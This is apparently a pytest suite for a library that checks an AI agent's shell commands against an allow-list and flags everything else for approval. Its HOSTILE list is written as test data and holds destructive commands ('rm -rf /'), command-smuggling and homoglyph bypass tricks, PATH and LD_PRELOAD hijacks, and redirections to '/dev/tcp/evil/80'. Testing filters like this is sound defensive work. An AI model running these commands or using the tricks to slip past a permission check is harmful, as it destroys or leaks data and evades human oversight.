"""Rules for shell commands: what they let pass, and all the ways in which a line can be more than it seems."""

import subprocess
import sys
from typing import Any

import pytest

from assentry import Redirect, ShellActionRequest, SimpleCommand, UnclearCommand, allow_commands, parse_command
from assentry.commands import shell_command
from assentry.errors import InvalidDefinition, UsageError

RULE = allow_commands(
    "ls *", "git status", "git log *", "echo *", "pwd", "cat *.md", "cd *", "./build", "grep *", "true"
)


def asks(*lines: str) -> bool:
    return RULE(None, ShellActionRequest(list(lines)), "call_1")


# -- reading ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "argvs"),
    [
        ("ls", [("ls",)]),
        ("ls -la /tmp", [("ls", "-la", "/tmp")]),
        ("a && b || c; d & e", [("a",), ("b",), ("c",), ("d",), ("e",)]),
        ("a | b |& c", [("a",), ("b",), ("c",)]),
        ("a\nb\n\n\tc", [("a",), ("b",), ("c",)]),
        ("(a; (b)); { c; }", [("a",), ("b",), ("c",)]),
        ("! a", [("a",)]),
        ("if a; then b; elif c; then d; else e; fi", [("a",), ("b",), ("c",), ("d",), ("e",)]),
        ("while a; do b; done", [("a",), ("b",)]),
        ("until a\ndo b\ndone", [("a",), ("b",)]),
        ('a $(b "$(c)")', [("a", None), ("b", None), ("c",)]),
        ("a 'b c' \"d e\" f\\ g", [("a", "b c", "d e", "f g")]),
        ('a "\\$x \\" \\\\ \\n"', [("a", '$x " \\ \\n')]),
        ("r'm' \"r\"m r\\m \\rm", [("rm", "rm", "rm", "rm")]),
        ("a '' \"\"", [("a", "", "")]),
        ('a $x "$x" ${x} *.py ~ a?', [("a", None, None, None, None, None, None)]),
        ("a 'b\nc'", [("a", "b\nc")]),
        ("a \\\n  b", [("a", "b")]),
        ("a # b; c", [("a",)]),
        ("# a\nb", [("b",)]),
        ("a 'für' \"日本\" '👍'b", [("a", "für", "日本", "👍b")]),
        ("find . -name '*.py'", [("find", ".", "-name", "*.py")]),
        ("", []),
        ("# nothing", []),
    ],
)
def test_every_command_of_a_line_is_read(line: str, argvs: list[tuple[str | None, ...]]) -> None:
    assert [command.argv for command in parse_command(line)] == argvs


def test_assignments_and_redirections_are_read_too() -> None:
    [command] = parse_command("A=1 B='x y' ls 2>errors >> out < /dev/null 2>&1")
    assert command.name == "ls"
    assert command.assignments == ("A=1", "B='x y'")
    assert command.redirects == (
        Redirect(">", "errors", 2),
        Redirect(">>", "out"),
        Redirect("<", "/dev/null"),
        Redirect(">&", "1", 2),
    )
    assert [redirect.harmless for redirect in command.redirects] == [False, False, True, True]
    assert parse_command("A=1") == [SimpleCommand((), ("A=1",))]
    assert parse_command("A=1")[0].name == ""
    for line in ("a && b > x", "a | b > x", "a; b > x", "a && b $(c) > x", "a $(c) | b > x"):
        writes = [each.name for each in parse_command(line) if each.redirects]
        assert writes == ["b"], line
    assert parse_command("(a) > x")[1] == SimpleCommand((), (), (Redirect(">", "x"),))


@pytest.mark.parametrize("line", [None, 1, b"ls", "a\0b", "\ud800", "a" * 10_000, "(" * 60 + "ls" + ")" * 60, ["ls"]])
def test_a_line_that_is_none_is_unclear(line: Any) -> None:
    with pytest.raises(UnclearCommand):
        parse_command(line)


@pytest.mark.parametrize(
    "line",
    ["{\U00010400", "{\U00031860", "{ \U0001f600", "{a\U00030000}", "${\U00010400}", "\U00010400=1", "<<\U00010400"],
)
def test_characters_that_the_grammar_cannot_take_are_unclear_and_harmless(line: str) -> None:
    with pytest.raises(UnclearCommand):
        parse_command(line)
    with pytest.raises(UnclearCommand):
        parse_command(line * 500)


@pytest.mark.parametrize(
    "line",
    [
        "sudo ls",
        "/usr/bin/env ls",
        "./sh x",
        "xargs ls",
        "eval ls",
        ". x",
        "time ls",
        "[ a ]",
        "if",
        "-x",
        "printf -v PATH x",
        "printf $x",
        "find . -exec rm x",
        "find . -delete",
        "find . -okdir rm x",
        "find . $x",
    ],
)
def test_commands_that_may_run_or_set_others_are_unclear(line: str) -> None:
    with pytest.raises(UnclearCommand):
        parse_command(line)


def test_nesting_that_is_too_deep_is_unclear() -> None:
    with pytest.raises(UnclearCommand):
        parse_command("ls $(" * 500 + "ls" + ")" * 500)
    with pytest.raises(UnclearCommand):
        parse_command("( " * 500 + "ls" + " )" * 500)


def test_every_builtin_of_bash_is_harmless_or_unclear() -> None:
    harmless = {":", "cd", "echo", "exit", "false", "kill", "printf", "pwd", "true", "type"}
    ended = subprocess.run(["bash", "-c", "compgen -b"], capture_output=True, text=True, check=True)
    assert set(ended.stdout.split()) - harmless <= shell_command.BUILTINS
    words = subprocess.run(["bash", "-c", "compgen -k"], capture_output=True, text=True, check=True)
    assert set(words.stdout.split()) <= shell_command.RESERVED


def test_without_the_extra_it_is_said_how_to_get_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "tree_sitter_bash", None)
    shell_command.bash_grammar.cache_clear()
    with pytest.raises(UsageError, match=r'pip install "\.\[shell\]"'):
        allow_commands("ls")
    with pytest.raises(UsageError, match=r'pip install "\.\[shell\]"'):
        parse_command("ls")


# -- rules -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "ls",
        "ls -la /tmp 'a b'",
        "git status",
        "git log --oneline -5 | grep fix",
        "git status && ls; pwd",
        "ls 2>/dev/null",
        "ls > /dev/null 2>&1",
        "ls &> /dev/null",
        "ls < /dev/null",
        "echo hello >&2",
        "cat README.md",
        "cat docs/index.md",
        "ls *.py",
        'ls $HOME "$x"',
        "grep -rn 'a b' $(ls)",
        "(cd src && ls)",
        "if git status; then echo yes; else echo no; fi",
        "while true; do echo y; done",
        "{ ls; pwd; } 2>&1",
        "! grep x y",
        "ls # everything",
        "git log \\\n  --oneline",
        "\\ls",
        "'ls' -l",
        "./build",
        "ls &",
        "echo 'rm -rf /; $(evil) `evil`'",
        'echo "rm -rf / > x"',
    ],
)
def test_allowed_commands_pass(line: str) -> None:
    assert not asks(line)


HOSTILE = [
    # other commands, wherever they stand
    "rm -rf /", "ls; rm x", "ls && rm x", "ls || rm x", "ls | rm", "ls |& rm", "ls & rm x", "ls\nrm -rf /",
    "ls\n\n\trm x", "ls;rm x", "ls&&rm x", "ls|rm", "ls&rm x", "(rm x)", "{ rm x; }", "! rm x",
    "if rm x; then ls; fi", "if ls; then rm x; fi", "if ls; then ls; else rm x; fi",
    "if ls; then ls; elif rm x; then ls; fi", "while rm x; do ls; done", "while ls; do rm x; done",
    "until rm x; do ls; done", "for f in a; do rm $f; done", "case a in a) rm x;; esac",
    "select x in a; do rm x; done", "(ls; (ls; rm x))", "ls; { ls; { rm x; }; }", "ls $(rm x)", "ls \"$(rm x)\"",
    "ls `rm x`", "ls \"`rm x`\"", "ls $(ls $(rm x))", "ls \"a $(ls; rm x) b\"", "ls <(rm x)", "ls >(rm x)",
    "ls ${x:-$(rm x)}", "ls ${x:-`rm x`}", "ls $((`rm x`))", "ls $((a[$(rm x)]))", "ls \"${x[$(rm x)]}\"",
    "ls <<EOF\n$(rm x)\nEOF", "ls <<< $(rm x)", "ls <<'EOF'\nEOF\nrm x", "ls <<-EOF\n\tEOF\nrm x",
    "ls <<EOF; rm x\nEOF", "ls() { rm x; }; ls", "function ls { rm x; }; ls", "function ls() { rm x; }\nls",
    "coproc rm x", "coproc ls", "time rm x", "time ls", "! ! rm x", "[[ $(rm x) ]] && ls", "[ $(rm x) ] && ls",
    "[[ -v a[$(rm)] ]]", "test -v 'a[$(rm x)]'", "((x=$(rm x)))", "let x=1", "ls;;rm x",
    # names that are not known, or not what they seem
    "$x", "${x}", "$x ls", "\"$x\" a", "$(echo rm) x", "`echo rm` x", "r$x", "*", "l?", "[l]s", "{ls,rm}", "{ls,-la}",
    "~/ls", "l{s,}", "ls{,}", "!ls", "!!", "!rm:0", "^ls^rm", "%1", "$'ls'", "$'\\x72m' x", "$'rm' x", "$\"ls\"",
    "r''m x", "r\"\"m x", "\\r\\m x", "'r'm x", "r\\\nm x", "ls\\\n;rm x", "l\\\ns;rm x", "LS", "ls\u00a0-l",
    "\u00a0ls", "ls\u3000x", "\ufeffls", "ls\r\nrm x", "ls\r", "ls\x0brm", "ls\x0crm", "ls\x00rm", "ls\u2028rm x",
    "lѕ", "ｌｓ", "/bin/ls", "./ls", "../ls", "ls/", "-ls", "--help", "+x", "-c ls", "1>x",
    # commands that run others, or change what later ones mean
    "eval ls", "eval 'rm x'", "exec ls", "source x", ". x", ". ./x", "command ls", "command rm x", "builtin ls",
    "sudo ls", "sudo rm x", "env ls", "env rm x", "/usr/bin/env rm x", "xargs rm", "ls | xargs rm", "nohup ls",
    "nice ls", "timeout 1 rm x", "stdbuf -o0 ls", "bash -c 'rm x'", "sh -c ls", "/bin/sh -c 'rm x'", "bash",
    "ls | sh", "echo rm x | bash", "find . -exec rm {} +", "find . -delete", "alias ls='rm x'; ls", "alias ls=rm\nls",
    "trap 'rm x' EXIT; ls", "set -- rm; ls", "shopt -s expand_aliases; ls", "hash -p /tmp/x ls; ls",
    "enable -f x ls; ls", "export PATH=.; ls", "declare PATH=.; ls", "readonly x=1", "local x=1", "unset PATH; ls",
    "read PATH; ls", "printf -v PATH .; ls", "printf $x; ls", "mapfile -C rm x", "cd /tmp; ./build",
    "cd x && ./build", "pushd x; ls", "wait", "type ls",
    # assignments and redirections
    "PATH=. ls", "LD_PRELOAD=./x.so ls", "PATH=.; ls", "IFS=/; ls", "x=1", "x=1 y=2 ls", "x+=1 ls", "a[0]=1 ls",
    "x=$(rm x) ls", "BASH_ENV=x ls", "for PATH in .; do ls; done", "ls $((PATH=1))", "ls ${PATH:=.}", "ls ${PATH=.}",
    "ls > x", "ls >x", "ls >> x", "ls >| x", "ls &> x", "ls &>> x", "ls >& x", "ls 2> x", "ls 1>x", "ls < x",
    "ls <> x", "ls <> /dev/null", "ls < /dev/tcp/evil/80", "echo x > /dev/tcp/evil/80", "> x", ">x ls", "2>x ls",
    "ls > x -la", "ls > $x", "ls > $(rm x)", "ls > /dev/null/../x", "ls > '/dev/null' > x", "{ ls; } > x", "(ls) > x",
    "if ls; then ls; fi > x", "while ls; do ls; done > x", "ls | ls > x", "echo a >/dev/null2", "exec 3>x",
    "ls {fd}>x", "ls 3<>x", "echo x >~/.bashrc", "ls >&$x", "ls >&-", "ls <&x", ">& --", "ls >& -rm", "ls <& -",
    # characters that are read in quotes only, or nowhere
    "echo é", "echo a\u00a0b", "echo \u202ex", "echo '<<'", "echo a\x07b", "echo a#b", "echo {", "echo !",
    'echo "a\\\nb"', 'echo "$"', 'echo "a $ b"', 'echo "$\'a\'"',
    # words that are not the pattern's
    "git", "git push", "git status -s", "git -c a=b log", "git $x", "git 'status '", "git Status", "git statusx",
    "git log; git push", "gitlog", "git 'log -1'", "pwd -P", "pwd $x", "cat", "cat x", "cat -.md", "cat --a.md",
    "cat a.md b.md", "cat a.md $x", "cat *.md", "cat $x.md", "cat README.md x", "./build x",
    # what cannot be read
    "ls '", "ls \"", "ls $(", "ls `", "ls (", "ls )", "ls {", "ls }", "(ls", "ls)", "{ ls", "ls; }", "if ls; then ls",
    "ls |", "ls &&", "&& ls", "; ls", "| ls", "ls ;; ls", "ls & & ls", "ls ||| ls", "fi", "done", "then ls", "do ls",
    "esac", "ls \\", "ls #\\\nrm x", "ls#x", "((ls))", "$((ls))", "$(ls)", "$(<x)", "ls $[1+1]", "!(ls)", "@(ls)",
    "ls +(a)", "ls $'a'", "ls $'a\\'; rm x #'", "ls $\"a\"", "ls {a,b}", "ls {1..3}", "ls a{b", "if! ls; then ls; fi",
    "{ls;}", "(ls)rm", "ls 'a'#'\nrm x", "echo a\\\nb",
]  # fmt: skip


@pytest.mark.parametrize("line", HOSTILE, ids=ascii)
def test_everything_else_is_asked_about(line: str) -> None:
    assert asks(line)
    assert asks("ls", line)
    assert asks(line, "ls")


def test_there_are_many_hostile_lines() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 150


def test_very_many_commands_are_asked_about() -> None:
    assert not asks(*["ls"] * 1000)
    assert asks(*["ls"] * 3000)


def test_no_commands_at_all_are_asked_about() -> None:
    assert asks()
    assert asks("# ls")
    assert asks("   ")


def test_a_relative_program_is_another_one_after_a_change_of_directory() -> None:
    assert not asks("./build")
    assert not asks("cd src")
    assert asks("cd src", "./build")


def test_a_pattern_may_be_a_list_of_words() -> None:
    rule = allow_commands(["git", "commit", "-m", "*"], ("ls",))
    assert not rule(None, ShellActionRequest(["git commit -m 'a message'", "ls"]), "")
    assert not rule(None, ShellActionRequest(["git commit -m a --amend"]), "")
    assert rule(None, ShellActionRequest(["git commit"]), "")
    between = allow_commands("git add *.py src/*")
    assert not between(None, ShellActionRequest(["git add a.py src/b/c"]), "")
    assert between(None, ShellActionRequest(["git add -.py src/b"]), "")
    assert between(None, ShellActionRequest(["git add a.py"]), "")


def test_the_version_of_a_rule_is_its_patterns() -> None:
    assert allow_commands("ls", "pwd").version == allow_commands("ls", "pwd").version
    assert allow_commands("ls").version != allow_commands("ls *").version
    assert allow_commands("git log").version != allow_commands("git", "log").version


@pytest.mark.parametrize(
    "patterns",
    [
        (),
        ("",),
        ("  ",),
        ("*",),
        ("* ls",),
        ("l*",),
        ("sudo ls",),
        ("/usr/bin/sudo *",),
        ("bash *",),
        ("eval *",),
        (". x",),
        ("if x",),
        ("time ls",),
        ("xargs ls",),
        ("-x",),
        ("ls; rm",),
        ("ls 'a b'",),
        ("ls $x",),
        ("ls > x",),
        ("ls", None),
        (1,),
        (b"ls",),
        (["ls", 1],),
        ([],),
        (["ls x"],),
    ],
)
def test_a_pattern_that_can_never_be_certain_cannot_be_defined(patterns: Any) -> None:
    with pytest.raises(InvalidDefinition, match="allow_commands"):
        allow_commands(*patterns)
